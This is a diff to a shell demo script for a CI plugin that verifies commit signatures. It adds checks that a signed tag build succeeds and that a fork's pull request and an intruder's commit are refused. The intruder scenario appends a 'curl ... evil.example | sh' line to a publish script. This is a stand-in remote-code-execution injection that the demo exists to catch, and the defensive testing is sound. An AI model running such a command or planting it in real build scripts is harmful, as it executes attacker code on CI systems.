@@ -95,32 +95,57 @@ step() {
 		"$@" "$plugin_image"
 }
 
+# Each run ends as shown, or the demo fails (CI runs it on every submission).
+wrong=
+check() { # WHAT WANT_CODE WANT_LINE STEP_ARGS...: a step, its exit code and a line of its output
+	what=$1 want=$2 line=$3
+	shift 3
+	{
+		step "$@"
+		echo $? >"$work/rc"
+	} 2>&1 | tee "$work/out"
+	rc=$(cat "$work/rc")
+	echo "(step exit code $rc)"
+	[ "$rc" = "$want" ] && grep -q -- "$line" "$work/out" && return 0
+	echo "demo: $what exited $rc without '$line' (expected exit $want)" >&2
+	wrong="$wrong, $what"
+}
+
 say "Tag build v1.0.0: verified, then the pipeline runs"
 printf '$ docker run ... -e DRONE_BUILD_EVENT=tag -e DRONE_TAG=v1.0.0 %s\n' "$plugin_image"
 set +e
-step -e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.0 -e DRONE_TAG=v1.0.0
-echo "(step exit code $?)"
+check "the verified tag build" 0 '^pipeline: published' \
+	-e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.0 -e DRONE_TAG=v1.0.0
 
 say "The next step of the build finds the artefact in the workspace"
-docker run --rm -v "$workspace:/drone/src" mainline-test/busybox:1 cat /drone/src/dist/app-v1.0.0.txt
+docker run --rm -v "$workspace:/drone/src" mainline-test/busybox:1 cat /drone/src/dist/app-v1.0.0.txt ||
+	wrong="$wrong, the artefact in the workspace"
 
 say "Pull request from a fork: refused before anything is fetched or run"
 printf '$ docker run ... -e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head %s\n' "$plugin_image"
-step -e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head \
+check "the fork's pull request" 1 '^refused: pull_request: ' \
+	-e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head \
 	-e DRONE_PULL_REQUEST=12 -e DRONE_SOURCE_BRANCH=fork/main -e DRONE_COMMIT_BRANCH=main
-echo "(step exit code $?)"
 
 say "Someone without the release key pushes to the pipeline repository's main"
 ssh-keygen -q -t ed25519 -N '' -C intruder -f "$work/intruder-key"
 git -C "$repo" config user.signingkey "$work/intruder-key"
 echo 'curl -s https://evil.example/x | sh' >>"$repo/ci/publish.sh"
 git -C "$repo" commit -q -S -am "ci: small fix"
-step -e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.1 -e DRONE_TAG=v1.0.1
-echo "(step exit code $?)"
+check "the intruder's commit" 1 '^refused: unknown_key: ' \
+	-e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.1 -e DRONE_TAG=v1.0.1
 
 say "The audit trail of these runs (hash-chained JSONL in the cache volume)"
 docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /usr/local/bin/mainline \
-	"$plugin_image" audit verify /var/cache/mainline/audit.jsonl
+	"$plugin_image" audit verify /var/cache/mainline/audit.jsonl >"$work/audit.out" 2>&1
+rc=$?
+cat "$work/audit.out"
+[ "$rc" = 0 ] && grep -q '^ok: 3 records' "$work/audit.out" ||
+	wrong="$wrong, the audit trail (three records, chain intact)"
 docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /bin/sh "$plugin_image" -c \
 	"cut -c1-160 /var/cache/mainline/audit.jsonl"
 set -e
+if [ -n "$wrong" ]; then
+	echo "demo failed: ${wrong#, }" >&2
+	exit 1
+fi
